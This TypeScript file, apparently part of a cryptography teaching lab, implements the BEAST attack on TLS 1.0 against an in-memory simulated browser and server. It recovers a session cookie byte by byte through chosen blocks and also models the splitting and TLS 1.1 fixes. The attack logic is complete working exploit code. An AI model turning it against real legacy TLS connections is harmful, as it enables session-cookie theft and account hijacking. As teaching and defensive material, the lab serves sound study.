// Attack code, for teaching. It works on a session of our own two peers, in memory.
//
// In TLS 1.0 the IV of a record is the last block of the record before, which everybody has seen. Whoever can make the
// browser send blocks of their choosing can ask of any earlier block "was it this?", and by moving the secret along
// the block boundaries the question is about one byte at a time.
import { equalBytes } from '@noble/curves/utils.js';
import { concatBytes, utf8ToBytes } from '@noble/hashes/utils.js';
import type { Random } from '../../lib/key-exchange.js';
import { HEADER_LENGTH } from '../../lib/records.js';
import { TLS10, TLS11 } from '../../lib/registry.js';
import type { Lab } from './lab.js';
import { found } from './parts/found.js';
import { seededIdentity } from './parts/identity.js';
import { Line } from './parts/line.js';
import { blocksOf, xor } from './parts/xor.js';

const ALPHABET = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_';
const SECRET_LENGTH = 16;
const SPLIT = '1/n-1 splitting';
const EXPLICIT = 'an IV in each record (TLS 1.1)';

/** A browser with a cookie, on whose page a script of the attacker's runs. */
class Browser {
  readonly line: Line;

  constructor(
    random: Random,
    private readonly variant: string,
    private readonly cookie: string,
  ) {
    const version = variant === EXPLICIT ? TLS11 : TLS10;
    this.line = new Line({ identity: seededIdentity(random), random, version, suites: [0x002f] });
  }

  /** The script asks for a path; the browser adds the cookie. */
  request(path: string): Uint8Array[] {
    return this.send(utf8ToBytes(`${before(path)}${this.cookie}${AFTER}`));
  }

  /** The script sends more data on the same connection. @returns what goes over the wire: each record's fragment */
  send(data: Uint8Array): Uint8Array[] {
    const { line } = this;
    const start = line.wire.length;
    const parts = this.variant === SPLIT ? [data.subarray(0, 1), data.subarray(1)] : [data];
    for (const part of parts) line.client.connection.write(part);
    line.pump();
    return line.wire.slice(start).map(({ bytes }) => bytes.subarray(HEADER_LENGTH));
  }
}

const before = (path: string) => `POST /${path} HTTP/1.1\r\nCookie: session=`;
const AFTER = '\r\n\r\n';

/** What the attacker knows about the way in which records are made. */
interface Layout {
  /** Bytes that go ahead in a record of their own. */
  readonly lead: number;
  /** Blocks of IV in front of a record's fragment. */
  readonly ivBlocks: number;
}

const layoutOf = (variant: string): Layout => ({
  lead: variant === SPLIT ? 1 : 0,
  ivBlocks: variant === EXPLICIT ? 1 : 0,
});

/** The cookie, as far as it can be found byte by byte. */
function* recover(browser: Browser, layout: Layout): Generator<string, { known: string; guesses: number }> {
  let known = '';
  let guesses = 0;
  let last = browser.request('').at(-1) as Uint8Array;
  while (known.length < SECRET_LENGTH) {
    const { path, plaintext } = aligned(known, layout.lead);
    const fragments = browser.request(path);
    last = fragments.at(-1) as Uint8Array;
    const { target, previous } = blockAt(last, plaintext.length + 1 - layout.lead, layout.ivBlocks);
    let right: string | undefined;
    for (const guess of ALPHABET) {
      yield `${known}${guess}: ${guesses} guesses`;
      guesses++;
      const block = concatBytes(plaintext.slice(-15), utf8ToBytes(guess));
      const nextIv = last.slice(-16);
      const sent = browser.send(concatBytes(new Uint8Array(layout.lead), xor(block, previous, nextIv)));
      last = sent.at(-1) as Uint8Array;
      if (sent.some((fragment) => blocksOf(fragment).some((one) => equalBytes(one, target)))) {
        right = guess;
        break;
      }
    }
    if (right === undefined) break;
    known += right;
  }
  return { known, guesses };
}

/** A path that makes the first unknown byte the last of a block, and all that stands before that byte. */
function aligned(known: string, lead: number): { path: string; plaintext: Uint8Array } {
  for (let path = ''; ; path += '.') {
    const plaintext = utf8ToBytes(before(path) + known);
    if ((plaintext.length - lead) % 16 === 15) return { path, plaintext };
  }
}

/** The block that ends with plaintext byte number `end`, and the one before it. */
function blockAt(fragment: Uint8Array, end: number, ivBlocks: number) {
  const blocks = blocksOf(fragment);
  const index = end / 16 - 1 + ivBlocks;
  return { target: blocks[index] as Uint8Array, previous: blocks[index - 1] as Uint8Array };
}

export interface BeastData {
  readonly recovered: string;
  readonly guesses: number;
}

export const beast: Lab<BeastData> = {
  name: 'beast',
  title: 'BEAST: the IV that everybody knows',
  year: 2011,
  paper:
    'Wei Dai 2002 and Gregory Bard 2004 saw it; Thai Duong and Juliano Rizzo, Here Come The XOR Ninjas, ekoparty 2011, made it read cookies',
  story:
    "A script on a page of the attacker's makes the browser send requests, and more blocks of the script's choosing, to the shop on one TLS 1.0 connection. The attacker sees the ciphertext. Each chosen block takes out the known IV and asks whether an earlier block held the cookie's next byte.",
  recovers: 'the session cookie, a byte at a time',
  fixes: [SPLIT, EXPLICIT],
  laws: [
    {
      rfc: 'RFC 4346 6.2.3.2',
      says: 'TLS 1.1: every record carries an IV that nobody could foresee (splitting is in no RFC: browsers agreed on it)',
    },
    { rfc: 'RFC 7457 2.3', says: 'BEAST among the known attacks' },
    { rfc: 'RFC 8996', says: 'TLS 1.0 and 1.1 must not be negotiated' },
  ],
  contract: [
    {
      check: 'honest',
      says: "the browser's request arrives as it was written",
      withFlaw: true,
      withFix: true,
    },
    { check: 'cookie', says: 'the attacker reads the cookie', withFlaw: true, withFix: false },
    {
      check: 'mistaken',
      says: 'a wrong guess gives the same block as the secret',
      withFlaw: false,
      withFix: false,
    },
  ],
  *attempt(variant, random) {
    const secret = Array.from(random(SECRET_LENGTH), (byte) => ALPHABET[byte % 64]).join('');
    yield 'making certificates';
    const browser = new Browser(random, variant, secret);
    browser.request('');
    const honest = browser.line.server.texts.join('') === before('') + secret + AFTER;
    const { known, guesses } = yield* recover(browser, layoutOf(variant));
    return {
      checks: { honest, cookie: known === secret, mistaken: !secret.startsWith(known) },
      outcome:
        known === secret
          ? `After ${guesses} guesses, each one record on the same connection, the cookie is known.`
          : `${guesses} guesses, and no block comes again: ${known.length} of ${SECRET_LENGTH} characters are known.`,
      found: [found('known of the cookie', known || 'nothing', secret)],
      data: { recovered: known, guesses },
    };
  },
};
